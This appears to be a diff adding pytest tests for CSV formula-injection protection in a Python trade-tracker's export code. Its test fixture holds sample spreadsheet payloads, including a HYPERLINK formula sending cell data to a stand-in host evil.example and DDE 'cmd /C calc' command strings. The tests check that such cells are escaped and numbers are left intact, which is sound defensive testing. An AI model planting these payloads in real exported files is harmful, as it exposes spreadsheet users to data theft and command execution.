@@ -18,6 +18,7 @@ from trade_tracker.export import (
     SUMMARY_CSV_COLUMNS,
     export_fills_csv,
     export_summary_csv,
+    safe_cell,
     write_summary_csv,
 )
 from trade_tracker.store import TradeStore
@@ -129,3 +130,53 @@ def test_export_refuses_bad_paths(store: TradeStore, out: Path) -> None:
     with pytest.raises(InvalidArgument):
         export_fills_csv(store, out / "f.csv", since="not a time")
     assert os.listdir(out) == []
+
+
+HOSTILE = {  # text the exchange (or a store someone else wrote) could hand us, as a spreadsheet would run it
+    "order_id": '=HYPERLINK("http://evil.example/?"&A1,"refund")',
+    "profile_id": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "user_id": "+1+cmd|' /C calc'!A0",
+    "funding_currency": "-2+3",
+    "market_type": "\t=1+1",
+    "liquidity": "\r=1+1",
+}
+
+
+@pytest.fixture
+def hostile_store() -> Iterator[TradeStore]:
+    """A loss (buy 100, sell 90) with a negative fee, and formula-looking text in every text column."""
+    with TradeStore(":memory:") as trade_store:
+        columns = ("product_id", "trade_id", "side", "price", "size", "fee", "created_at", "label", *HOSTILE)
+        rows = [("BTC-USD", 1, "buy", "100", "1", "-0.5", "2024-01-01T00:00:00.000000Z", "a", *HOSTILE.values()),
+                ("BTC-USD", 2, "sell", "90", "1", "-12.5", "2024-01-02T00:00:00.000000Z", "a", *HOSTILE.values())]
+        with trade_store.write() as conn:
+            conn.executemany(f"INSERT INTO fills ({', '.join(columns)}) VALUES ({', '.join('?' * len(columns))})",
+                             rows)
+        yield trade_store
+
+
+def test_text_cells_that_start_a_formula_are_neutralised(hostile_store: TradeStore, tmp_path: Path) -> None:
+    export_fills_csv(hostile_store, tmp_path / "f.csv")
+    for row in read(tmp_path / "f.csv"):
+        for column, value in HOSTILE.items():
+            assert row[column] == "'" + value, column  # shown as text, exactly, by Excel and LibreOffice
+        assert row["fee"] in ("-0.5", "-12.5")  # negative numbers stay numbers
+        assert (row["product_id"], row["side"], row["label"]) == ("BTC-USD", row["side"], "a")
+
+
+def test_summary_numbers_stay_numbers_negative_ones_included(hostile_store: TradeStore, tmp_path: Path) -> None:
+    export_summary_csv(hostile_store, tmp_path / "s.csv")
+    (btc,) = read(tmp_path / "s.csv")
+    assert btc["realized_pnl"] == "-10"
+    assert btc["fee_total"] == "-13" and btc["net_realized_pnl"] == "3"
+    assert not any(value.startswith("'") for value in btc.values())
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("-12.5", "-12.5"), ("+7", "+7"), ("-1E+5", "-1E+5"), ("-.5", "-.5"), ("0.1", "0.1"), (-3, -3),
+    (Decimal("-0.25"), Decimal("-0.25")), (None, None), ("BTC-USD", "BTC-USD"),
+    ("-", "'-"), ("-1+2", "'-1+2"), ("=1", "'=1"), ("@x", "'@x"), ("+x", "'+x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("--5", "'--5"), ("-12.5\n", "'-12.5\n"),
+])
+def test_safe_cell(cell: object, written: object) -> None:
+    assert safe_cell(cell) == written
